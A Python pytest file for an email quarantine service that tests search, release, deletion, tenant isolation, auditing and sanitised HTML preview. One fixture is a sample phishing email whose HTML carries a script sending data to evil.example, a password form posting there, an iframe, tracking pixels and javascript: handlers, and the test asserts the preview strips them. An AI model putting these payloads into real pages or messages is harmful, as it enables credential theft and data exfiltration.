"""The quarantine on mail sent through the real pipeline and Maildir mailboxes: search, release, delete,
preview and report, confined per tenant. The detection engine is the test's ChosenEngine (it returns the
verdict the test picked for a subject): the rules that put a message in quarantine are the policies'."""

from __future__ import annotations

import threading
import uuid
from collections.abc import Iterator
from email.message import EmailMessage
from pathlib import Path

import anyio
import pytest
from sqlalchemy import select

from ramparts import quarantine
from ramparts.delivery.mailbox import Folder
from ramparts.domain.verdicts import Verdict
from ramparts.errors import InvalidInput, NotFound
from ramparts.mailflow.message import Envelope
from ramparts.quarantine import QuarantineQuery
from ramparts.store.models import AuditEntry, MessageRecord
from tests.vendors.support import World, make_world, submission

ALICE, BOB, CAROL = "alice@contoso.example", "bob@contoso.example", "carol@contoso.example"
FABRIKAM_ALICE = "alice@fabrikam.example"


@pytest.fixture
def world(tmp_path: Path) -> Iterator[World]:
    made = make_world(tmp_path)
    yield made
    made.services.close()


def held(world: World, **filters: object) -> list[dict[str, object]]:
    with world.services.sessions() as session:
        return quarantine.search(session, QuarantineQuery(**filters), world.clock.now)  # type: ignore[arg-type]


def inbox(world: World, recipient: str) -> list[Path]:
    folder = world.mailbox.folder_path(recipient, Folder.INBOX)
    return sorted(p for sub in ("new", "cur") if (folder / sub).exists() for p in (folder / sub).iterdir())


def identity_of(world: World, recipient: str, subject: str) -> str:
    (found,) = held(world, recipient=recipient, subject=subject)
    return str(found["Identity"])


def test_search_filters_like_get_quarantinemessage(world: World) -> None:
    world.deliver("Verify your password", ALICE, BOB, verdict=Verdict.PHISH, sender="it@c0ntoso.example")
    world.deliver("Invoice attached", CAROL, verdict=Verdict.MALWARE)
    world.deliver("Lunch?", ALICE)
    world.deliver("Cheap pills", FABRIKAM_ALICE, verdict=Verdict.SPAM)  # Strict quarantines spam
    contoso, fabrikam = world.tenants["contoso"], world.tenants["fabrikam"]

    everything = held(world)
    assert {(r["RecipientAddress"], r["Type"]) for r in everything} == {
        (ALICE, "Phish"),
        (BOB, "Phish"),
        (CAROL, "Malware"),
        (FABRIKAM_ALICE, "Spam"),
    }
    assert {r["RecipientAddress"] for r in held(world, tenant_id=contoso)} == {ALICE, BOB, CAROL}
    assert [r["RecipientAddress"] for r in held(world, tenant_id=fabrikam)] == [FABRIKAM_ALICE]
    assert [r["RecipientAddress"] for r in held(world, quarantine_types=("Malware",))] == [CAROL]
    assert {r["RecipientAddress"] for r in held(world, sender="IT@c0ntoso.example")} == {ALICE, BOB}
    assert {r["RecipientAddress"] for r in held(world, subject="PASSWORD")} == {ALICE, BOB}
    assert held(world, subject="%") == []  # a LIKE wildcard is a plain character here
    phish = held(world, recipient=ALICE)[0]
    assert phish["PolicyType"] == "HostedContentFilterPolicy"
    assert phish["TagName"] == "DefaultFullAccessWithNotificationPolicy"
    assert (phish["ReleaseStatus"], phish["Released"], phish["Reported"]) == ("NotReleased", False, False)
    same_message = held(world, message_id=str(phish["MessageId"]).strip("<>"))
    assert {r["RecipientAddress"] for r in same_message} == {ALICE, BOB}
    first, second = held(world, page_size=2), held(world, page_size=2, page=2)
    assert len(first) == len(second) == 2
    assert {r["Identity"] for r in first}.isdisjoint({r["Identity"] for r in second})


@pytest.mark.parametrize(
    ("filters", "field"),
    [
        ({"quarantine_types": ("Virus",)}, "quarantine_types"),
        ({"release_statuses": ("Gone",)}, "release_statuses"),
        ({"page_size": 5000}, "page_size"),
        ({"page": 0}, "page"),
    ],
)
def test_bad_filters_name_the_field(world: World, filters: dict[str, object], field: str) -> None:
    with pytest.raises(InvalidInput) as caught:
        held(world, **filters)
    assert caught.value.field == field


def test_release_delivers_to_the_inbox_once_and_is_recorded(world: World) -> None:
    nmid = world.deliver("Verify your password", ALICE, BOB, verdict=Verdict.PHISH)
    identity = identity_of(world, ALICE, "Verify")
    assert inbox(world, ALICE) == []

    released = quarantine.release(world.services, identity, world.tenants["contoso"], "admin@contoso")
    assert (released["ReleaseStatus"], released["ReleasedBy"]) == ("Released", "admin@contoso")
    assert len(inbox(world, ALICE)) == 1
    assert inbox(world, BOB) == []  # released to Alice only
    with pytest.raises(InvalidInput, match=r"already released to alice@contoso\.example"):
        quarantine.release(world.services, identity, None, "admin@contoso")
    rows = world.sql(
        'SELECT Action, ActionResult, DeliveryLocation FROM "EmailPostDeliveryEvents"'
        " WHERE NetworkMessageId = ? AND RecipientEmailAddress = ?",
        nmid,
        ALICE,
    )
    assert rows == [("Moved to inbox", "Success", "Inbox/folder")]
    latest = world.sql('SELECT LatestDeliveryLocation FROM "EmailEvents" WHERE RecipientEmailAddress = ?', ALICE)
    assert latest == [("Inbox/folder",)]
    assert held(world, release_statuses=("Released",))[0]["Identity"] == identity


def test_delete_removes_the_record_from_every_view(world: World) -> None:
    world.deliver("Invoice attached", CAROL, verdict=Verdict.MALWARE)
    identity = identity_of(world, CAROL, "Invoice")
    quarantine.delete(world.services, identity, world.tenants["contoso"], "admin@contoso")
    assert held(world) == []
    with pytest.raises(NotFound):
        quarantine.details(world.services, identity, None)
    with pytest.raises(NotFound):
        quarantine.release(world.services, identity, None, "admin@contoso")


def test_another_tenant_cannot_see_or_touch_a_record(world: World) -> None:
    world.deliver("Verify your password", ALICE, verdict=Verdict.PHISH)
    identity = identity_of(world, ALICE, "Verify")
    fabrikam = world.tenants["fabrikam"]
    with pytest.raises(NotFound):
        quarantine.details(world.services, identity, fabrikam)
    for act in (quarantine.release, quarantine.delete, quarantine.report, quarantine.preview):
        with pytest.raises(NotFound):
            act(world.services, identity, fabrikam, "admin@fabrikam")
    assert quarantine.details(world.services, identity, world.tenants["contoso"])["ReleaseStatus"] == "NotReleased"


def test_expired_records_are_gone(world: World) -> None:
    world.deliver("Verify your password", ALICE, verdict=Verdict.PHISH)  # Standard keeps quarantine 30 days
    world.clock.advance(days=29)
    assert len(held(world, start=world.clock.now.replace(year=2000))) == 1
    world.clock.advance(days=2)
    assert held(world, start=world.clock.now.replace(year=2000)) == []


def test_report_marks_the_record_and_is_audited(world: World) -> None:
    world.deliver("Quarterly newsletter", ALICE, verdict=Verdict.PHISH)
    identity = identity_of(world, ALICE, "newsletter")
    assert quarantine.report(world.services, identity, None, "admin@contoso")["Reported"] is True
    assert [r["Identity"] for r in held(world, reported=True)] == [identity]
    with world.services.sessions() as session:
        actions = session.scalars(select(AuditEntry.action).where(AuditEntry.target == identity)).all()
    assert actions == ["quarantine.report"]


HOSTILE_HTML = """<html><head><style>body{background:url(http://tracker.example/bg.png)}</style>
<script>fetch('http://evil.example/steal')</script></head>
<body onload="alert(1)"><p style="color:red">Your <b>mailbox</b> is full.</p>
<img src="http://tracker.example/pixel.gif" width="1">
<a href="http://login.c0ntoso.example/reset" onclick="go()">Reset now</a>
<iframe src="http://evil.example/frame"></iframe><form action="http://evil.example/post"><input name="pw"></form>
<a href="javascript:alert(2)">more</a></body></html>"""


def _send_hostile(world: World) -> str:
    subject = "Mailbox full"
    world.engine.verdicts[subject] = Verdict.PHISH
    message = EmailMessage()
    message["From"] = "it@c0ntoso.example"
    message["To"] = ALICE
    message["Subject"] = subject
    message["Message-ID"] = f"<{uuid.uuid4()}@c0ntoso.example>"
    message.set_content("Your mailbox is full. Reset: http://login.c0ntoso.example/reset\n")
    message.add_alternative(HOSTILE_HTML, subtype="html")
    message.add_attachment(b"MZ\x90\x00 not really a program", maintype="application", subtype="octet-stream",
                           filename="reset.exe")  # fmt: skip
    envelope = Envelope("it@c0ntoso.example", (ALICE,), world.clock.now, str(uuid.uuid4()), "203.0.113.9", "mx")
    anyio.run(world.pipeline.process, envelope, message.as_bytes())
    world.services.writer.flush()
    return identity_of(world, ALICE, subject)


def test_preview_shows_text_and_defused_html_and_is_audited(world: World) -> None:
    identity = _send_hostile(world)
    shown = quarantine.preview(world.services, identity, world.tenants["contoso"], "admin@contoso")
    html = str(shown["Html"])
    assert "<b>mailbox</b>" in html and "Reset now" in html
    for dangerous in ("<script", "<style", "<img", "<iframe", "<form", "<input", "href", "src=", "onclick", "onload",
                      "javascript:", "tracker.example", "evil.example", "style="):  # fmt: skip
        assert dangerous not in html, dangerous
    assert "Your mailbox is full" in str(shown["Text"])
    assert {"url": "http://login.c0ntoso.example/reset", "domain": "login.c0ntoso.example", "location": "Body"} in list(
        shown["Urls"]  # type: ignore[call-overload]
    )
    (attachment,) = shown["Attachments"]  # type: ignore[misc]
    assert attachment["fileName"] == "reset.exe" and "content" not in attachment
    assert {"name": "Subject", "value": "Mailbox full"} in list(shown["Headers"])  # type: ignore[call-overload]
    with world.services.sessions() as session:
        audited = session.scalars(select(AuditEntry).where(AuditEntry.target == identity)).all()
    assert [(a.action, a.actor) for a in audited] == [("quarantine.preview", "admin@contoso")]


def test_records_name_every_engine_and_vendor_that_judged_and_can_be_searched_by_them(world: World) -> None:
    nmid = world.deliver("Verify your password", ALICE, BOB, verdict=Verdict.PHISH)
    world.deliver("Invoice attached", CAROL, verdict=Verdict.MALWARE)
    world.add_vendor("Acme Mail Security", "contoso")
    details = {"threatNames": ["Acme.CredPhish.Kit7"]}
    vendor_verdict = submission(nmid, "Phishing", "acme-1", recipient=ALICE, threatDetails=details)
    answer = world.call("POST", "/ices/v1/verdicts:batch", world.token("Acme Mail Security"),
                        json={"verdicts": [vendor_verdict]})  # fmt: skip
    assert answer.status_code == 202, answer.text
    world.settle()

    by_vendor = held(world, engine="acme mail security")
    assert [r["RecipientAddress"] for r in by_vendor] == [ALICE]  # the vendor named Alice's copy only
    assert {r["RecipientAddress"] for r in held(world, engine="builtin")} == {ALICE, BOB, CAROL}
    assert [r["RecipientAddress"] for r in held(world, threat="credphish")] == [ALICE]
    assert held(world, engine="rspamd") == []
    assert held(world, threat="100%") == []

    shown = quarantine.details(world.services, identity_of(world, ALICE, "Verify"), None)
    verdicts = {v["source"]: v for v in shown["Verdicts"]}
    assert {(name, v["sourceKind"], v["verdict"]) for name, v in verdicts.items()} == {
        ("builtin", "engine", "Phishing"),
        ("Acme Mail Security", "vendor", "Phishing"),
    }
    assert verdicts["Acme Mail Security"]["threatNames"] == ["Acme.CredPhish.Kit7"]
    bob = quarantine.details(world.services, identity_of(world, BOB, "Verify"), None)
    assert [v["source"] for v in bob["Verdicts"]] == ["builtin"]


def test_two_releases_at_once_deliver_one_copy(world: World) -> None:
    world.deliver("Verify your password", ALICE, verdict=Verdict.PHISH)
    identity = identity_of(world, ALICE, "Verify")
    start = threading.Barrier(2)
    outcomes: list[str] = []

    def release() -> None:
        start.wait()
        try:
            quarantine.release(world.services, identity, None, f"admin-{threading.get_ident()}")
            outcomes.append("released")
        except InvalidInput as exc:
            outcomes.append(str(exc))

    threads = [threading.Thread(target=release) for _ in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=60)
    assert sorted(outcomes)[-1] == "released" and outcomes.count("released") == 1, outcomes
    assert len(inbox(world, ALICE)) == 1


def test_a_failed_release_gives_the_record_back(world: World) -> None:
    nmid = world.deliver("Verify your password", ALICE, verdict=Verdict.PHISH)
    identity = identity_of(world, ALICE, "Verify")
    with world.services.sessions() as session:
        blob = session.get(MessageRecord, nmid).blob_sha256  # type: ignore[union-attr]
    for path in world.services.settings.blob_dir.rglob(f"{blob}*"):
        path.unlink()  # the raw message is gone: delivery cannot happen
    with pytest.raises(InvalidInput, match="did not succeed"):
        quarantine.release(world.services, identity, None, "admin@contoso")
    assert quarantine.details(world.services, identity, None)["ReleaseStatus"] == "NotReleased"
    assert inbox(world, ALICE) == []
